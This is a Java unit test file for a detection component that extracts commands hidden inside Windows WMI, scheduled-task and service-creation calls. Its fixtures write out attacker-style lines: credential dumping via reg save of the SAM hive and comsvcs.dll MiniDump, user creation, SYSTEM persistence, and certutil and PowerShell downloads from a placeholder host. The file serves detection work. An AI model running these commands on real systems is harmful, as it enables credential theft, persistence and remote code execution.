package dev.vigil.analyze.windows;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.vigil.normalize.CommandLineNormalizer;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Carrier spellings written for this test from the documentation of wmic, the WMI and CIM cmdlets,
 * schtasks, sc and the ScheduledTasks module; never corpus rows.
 */
class CarriedCommandRevealTest {

    @Test
    void wmiProcessCreationGivesTheCommandItCreates() {
        assertEquals(List.of("cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt"),
                CarriedCommandReveal.commands("wmic /node:10.0.0.5 process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt\""));
        assertEquals(List.of("\"C:\\Program Files\\7-Zip\\7z.exe\" a x.7z C:\\data -pS"),
                CarriedCommandReveal.commands("WMIC path win32_process CALL Create \"\\\"C:\\Program Files\\7-Zip\\7z.exe\\\" a x.7z C:\\data -pS\""));
        assertEquals(List.of("rdrleakdiag.exe /p 612 /fullmemdmp"),
                CarriedCommandReveal.commands("powershell Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'rdrleakdiag.exe /p 612 /fullmemdmp'"));
        assertEquals(List.of("notepad.exe"),
                CarriedCommandReveal.commands("Invoke-WmiMethod -Path win32_process -Name create -ArgumentList notepad.exe"));
        assertEquals(List.of("net user x P@ss /add"),
                CarriedCommandReveal.commands("Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='net user x P@ss /add'}"));
        assertEquals(List.of("reg save HKLM\\SAM C:\\t\\s"),
                CarriedCommandReveal.commands("([wmiclass]'win32_process').Create('reg save HKLM\\SAM C:\\t\\s')"));
    }

    @Test
    void aTaskOrServiceGivesTheCommandItRuns() {
        assertEquals(List.of("cmd /c certutil -urlcache -f http://x.example/a C:\\Users\\Public\\a.exe"),
                CarriedCommandReveal.commands("schtasks /create /tn upd /sc onlogon /tr \"cmd /c certutil -urlcache -f http://x.example/a C:\\Users\\Public\\a.exe\" /ru system"));
        assertEquals(List.of("C:\\Users\\Public\\svc.exe -k"),
                CarriedCommandReveal.commands("sc.exe create upd binPath= \"C:\\Users\\Public\\svc.exe -k\" start= auto"));
        assertEquals(List.of("cmd /c C:\\ProgramData\\x.bat"),
                CarriedCommandReveal.commands("New-Service -Name upd -BinaryPathName 'cmd /c C:\\ProgramData\\x.bat'"));
        assertEquals(List.of("powershell.exe -w hidden -c iwr http://x.example/a"),
                CarriedCommandReveal.commands("$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -c iwr http://x.example/a'; Register-ScheduledTask upd -Action $a"));
    }

    @Test
    void wordsThatOnlyLookLikeCarriersGiveNothing() {
        assertEquals(List.of(), CarriedCommandReveal.commands("tree /f C:\\inetpub /tr x"));
        assertEquals(List.of(), CarriedCommandReveal.commands("dir /tree C:\\x"));
        assertEquals(List.of(), CarriedCommandReveal.commands("sc query state= all"));
        assertEquals(List.of(), CarriedCommandReveal.commands("Get-WmiObject Win32_Process | select Name, CommandLine"));
        assertEquals(List.of(), CarriedCommandReveal.commands("notepad C:\\notes\\create process.txt"));
        assertFalse(CarriedCommandReveal.mayCarry("ipconfig /all"));
    }

    @Test
    void anUnclosedQuoteRunsToTheEndOfTheLine() {
        assertEquals(List.of("cmd /c whoami"), CarriedCommandReveal.commands("wmic process call create \"cmd /c whoami"));
        assertEquals(List.of(), CarriedCommandReveal.commands("schtasks /create /tr"));
    }

    @Test
    void hostileRepetitionIsCut() {
        String many = "wmic process call create 'a' ".repeat(5_000) + "schtasks /tr b ".repeat(5_000);
        List<String> out = CarriedCommandReveal.commands(many);
        assertTrue(out.size() <= CarriedCommandReveal.MAX_COMMANDS, out.toString());
    }

    @Test
    void theNormaliserReadsTheCarriedCommandOnItsOwn() {
        List<String> readings = CommandLineNormalizer.readings(
                "wmic process call create \"C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full\"",
                true, false);
        assertTrue(readings.contains("c:\\windows\\system32\\rundll32.exe c:\\windows\\system32\\comsvcs.dll, minidump 624 c:\\t\\l.dmp full"),
                readings.toString());
    }
}
